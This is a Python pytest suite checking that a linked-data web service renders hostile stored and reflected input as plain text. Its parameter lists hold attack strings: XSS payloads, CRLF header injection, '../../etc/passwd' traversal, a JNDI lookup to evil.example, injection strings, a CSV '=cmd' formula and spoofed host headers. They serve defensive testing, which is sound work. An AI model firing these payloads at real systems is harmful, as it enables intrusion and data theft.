"""Rules of what a page, table or header shows of hostile data and hostile requests: it stays text."""

import csv
import html.parser
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

STORED = [f"hostile-{number:03}" for number in range(1, 35)]
PAGES = ("/en/person/{}", "/fa/person/{}", "/en/dossier/person/{}", "/en/card/person/{}", "/en/graph?seed=person/{}")
TABLES = ("/data/person/{}.csv", "/api/v1/person/{}?format=csv", "/api/v1/person/{}/relations?format=csv")
DRAWN = ("/api/v1/graph.svg?seed=person/{}", "/api/v1/graph.graphml?seed=person/{}", "/data/person/{}.rdf")
REFLECTED = (
    "/en/search?q={}",
    "/fa/search?q={}",
    "/en/sparql?query={}",
    "/en/person/{}",
    "/en/{}",
    "/en/record?iri={}",
    "/en/graph?seed={}",
    "/en/path?from={}&to={}",
    "/en/timeline?from={}",
    "/en/search?type={}",
    "/en/search?q=a&cursor={}",
    "/en/search?q=a&sort={}",
    "/id/person/{}",
    "/id/{}/x",
    "/data/person/{}.ttl",
    "/data/person/x.{}",
    "/api/v1/person/{}",
    "/api/v1/search?q={}",
    "/api/v1/suggest?q={}",
    "/api/v1/graph?seed={}",
    "/sparql?query={}",
    "/sparql?query=ASK%7B%7D&format={}",
    "/queries/{}",
    "/reconcile?query={}",
    "/reconcile?queries={}",
    "/reconcile/suggest/{}?prefix=a",
    "/reconcile/preview?id={}",
    "/reconcile/flyout/entity?id={}",
    "/reconcile/view?id={}",
    "/static/{}",
    "/{}",
)
URLS = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "ping", "srcset", "cite")
EVIL = ("evil.example", "xssmark")
OVERRIDES = re.compile("[\u202a-\u202e\u2066-\u2069]")
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r]")
WRITES = re.compile(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function")
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


class Page(html.parser.HTMLParser):
    """Notes whatever could run, lead away or load something."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self.inside, self.text = [], "", []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            squeezed = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.found.append(f"{tag} {name}")
            if name in URLS:
                if not squeezed.startswith(("/", "?", "#", "https://", "http://", "")) or squeezed.startswith("//"):
                    self.found.append(f"{tag} {name}={squeezed[:60]}")
                if ":" in squeezed.split("/")[0] and not squeezed.startswith(("https://", "http://", "?")):
                    self.found.append(f"{tag} {name}={squeezed[:60]}")
                loads = tag != "a" and (tag != "link" or "stylesheet" in (dict(attrs).get("rel") or ""))
                if loads and squeezed.startswith(("http", "//")):
                    self.found.append(f"{tag} loads {squeezed[:60]}")
        if (
            tag in {"base", "iframe", "object", "embed", "applet", "frame", "meta"}
            and dict(attrs).get("http-equiv", tag) != "meta"
        ):
            self.found.append(tag)
        self.inside = tag

    def handle_data(self, data):
        if self.inside == "script" and data.strip():
            self.found.append("script with code")
        if self.inside == "style" and any(word in data for word in EVIL):
            self.found.append("style")
        self.text.append(data)

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_comment(self, data):
        if any(word in data for word in EVIL):
            self.found.append("comment")


def judged(text):
    page = Page()
    page.feed(text)
    page.close()
    return page


@pytest.mark.parametrize("path", PAGES)
def test_stored_text_and_iris_run_nowhere_and_lead_nowhere(service, path):
    for slug in STORED:
        answer = service.ask(path.format(slug), Accept="text/html")
        assert answer.status == 200, (slug, answer.text[:300])
        page = judged(answer.text)
        assert page.found == [], slug
        shown = "".join(page.text)
        assert not OVERRIDES.search(shown), slug
        assert not CONTROLS.search(answer.text), slug


def test_an_override_of_the_direction_of_writing_is_shown_as_such(service):
    assert "⟨U+202E⟩" in service.ask("/en/person/hostile-013", Accept="text/html").text


def test_what_a_reader_typed_is_given_back_as_it_was(service):
    typed = 'SELECT * { ?s ?p "\u202ea" }'
    page = judged(service.ask(f"/en/sparql?query={quote(typed)}", Accept="text/html").text)
    assert typed in "".join(page.text)


@pytest.mark.parametrize("path", TABLES)
def test_no_cell_of_a_table_is_a_formula(service, path):
    for slug in [*STORED, "person-5"]:
        answer = service.ask(path.format(slug))
        assert answer.status == 200, slug
        judge_table(answer.body.decode("utf-8-sig"), slug)


def judge_table(text, slug=""):
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not FORMULA.match(cell) or NUMBER.fullmatch(cell), (slug, cell[:60])


def test_results_asked_for_as_csv_hold_no_formula_and_the_w3c_s_own_are_unaltered(service):
    query = quote("SELECT ?s ?l { ?s <http://www.w3.org/2000/01/rdf-schema#label> ?l }")
    judge_table(service.ask(f"/sparql?query={query}&format=csv").text)
    plain = service.ask(f"/sparql?query={query}", Accept="text/csv").text
    assert "=cmd|' /C calc'!A0" in [row[-1] for row in csv.reader(io.StringIO(plain, newline=""))]


@pytest.mark.parametrize("path", DRAWN)
def test_xml_is_well_formed_whatever_the_texts_hold(service, path):
    for slug in STORED:
        answer = service.ask(path.format(slug))
        if answer.status == 422 and path.endswith(".rdf"):
            continue  # a property whose IRI cannot be written as a name in XML
        assert answer.status == 200, (slug, answer.text[:200])
        root = ET.fromstring(answer.body)
        for element in root.iter():
            assert element.tag.rpartition("}")[2] not in {"script", "foreignObject", "iframe"}, slug
            for name, value in element.attrib.items():
                assert not name.lower().startswith("on"), slug
                if name.rpartition("}")[2] == "href":
                    assert value.startswith(("/", "#", "http")), (slug, value)


@pytest.mark.parametrize(
    "text",
    [
        "<script>xssmark()</script>",
        '"><img src=x onerror=xssmark()>',
        "'-xssmark()-'",
        "javascript:xssmark()",
        "//evil.example/x",
        "https://evil.example/x",
        "\\\\evil.example",
        "%0d%0aX-Inj:%201",
        "x\r\nX-Inj: 1\r\n\r\n<b>",
        "\u2028\u2029",
        "\u202eevil",
        "{{7*7}}",
        "</textarea><script>xssmark()</script>",
        "..%2f..%2fetc%2fpasswd",
        "../../etc/passwd",
        "\x00",
        "\ud7ff\ue000",
        "\uff1cscript\uff1exssmark()",
        "＇ OR 1=1",
        "a" * 5000,
        "&#x3c;script>",
        "http://[::1",
        "http://x:99999999/",
        "\u2025/\u2025/etc/passwd",
        "x;y=1?z#q",
        "*",
        "%",
        "%ff%fe",
        "${jndi:ldap://evil.example}",
        "^(a+)+$",
        '{"$ne":1}',
    ],
)
def test_what_is_asked_is_given_back_as_text_or_refused(service, text):
    for path in REFLECTED:
        once = quote(text, safe="")
        # what is decoded twice somewhere shows with dots, line ends and angle brackets
        for written in [once, quote(once, safe="")] if set(text) & set(".\r<") else [once]:
            answer = service.ask(path.replace("{}", written), Accept="text/html, application/json;q=0.8, */*;q=0.5")
            assert answer.status < 500, (path, answer.status)
            assert "x-inj" not in answer.headers
            assert "root:x:0:0" not in answer.text
            kind = answer.headers.get("content-type", "")
            if kind.startswith("text/html"):
                assert judged(answer.text).found == [], path
            elif "json" in kind:
                json.loads(answer.body)
            elif answer.body:
                assert kind.startswith(("text/", "application/", "image/svg")), path
                assert answer.headers["x-content-type-options"] == "nosniff"
            target = answer.headers.get("location", service.address)
            assert target.startswith(("/", service.address)), (path, target)
            assert not target.startswith(("//", "/\\")), (path, target)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(st.text(max_size=40), st.sampled_from(REFLECTED))
def test_any_text_is_given_back_as_text_or_refused(service, text, path):
    written = quote(text.encode("utf-8", "surrogatepass"), safe="")
    answer = service.ask(path.replace("{}", written), Accept="text/html, */*;q=0.5")
    assert answer.status < 500
    if answer.headers.get("content-type", "").startswith("text/html"):
        assert judged(answer.text).found == []


@pytest.mark.parametrize(
    "name",
    [
        "Host",
        "X-Forwarded-Host",
        "X-Forwarded-Proto",
        "X-Forwarded-Prefix",
        "X-Original-URL",
        "X-Rewrite-URL",
        "Forwarded",
        "X-Host",
        "X-Forwarded-Server",
        "X-HTTP-Method-Override",
        "X-Forwarded-For",
        "Referer",
        "Origin",
        "User-Agent",
        "Cookie",
    ],
)
def test_no_answer_depends_on_what_a_cache_does_not_look_at(service, name):
    for path in (
        "/en/",
        "/id/person/person-5",
        "/en/person/person-5",
        "/",
        "/reconcile",
        "/openapi.json",
        "/.well-known/void",
        "/en/search?q=person",
        "/api/v1/search?q=person&limit=2",
        "/nowhere",
        "/sparql?query=ASK%7B%7D",
    ):
        head = f"GET {path} HTTP/1.1\r\nHost: {{host}}\r\nAccept: text/html, */*;q=0.5\r\n"
        head += "Connection: close\r\n{more}\r\n"
        plain = service.raw(head.format(host=f"{service.host}:{service.port}", more="").encode())
        host = "rebound.example" if name == "Host" else f"{service.host}:{service.port}"
        more = "" if name == "Host" else f"{name}: rebound.example/DELETE\r\n"
        changed = service.raw(head.format(host=host, more=more).encode())
        assert b"rebound.example" not in changed
        assert without_date(changed) == without_date(plain), path


def without_date(raw):
    return re.sub(rb"date: [^\r]*", b"", raw)


def test_javascript_of_ours_writes_no_html_from_data():
    sources = Path(__file__).parents[3] / "frontend/src"
    for path in sources.glob("*.js"):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function", text), (
            path.name
        )


def test_a_callback_is_the_name_of_a_function(service):
    for text in ("alert(1)//", "a b", "a;b", "a<", "\u2028", "a" * 100, "//evil"):
        assert service.ask(f"/reconcile?callback={quote(text, safe='')}").status == 400
    answer = service.ask("/reconcile?callback=jQuery123_4.x")
    assert answer.headers["content-type"].startswith("text/javascript")
    assert answer.headers["x-content-type-options"] == "nosniff"
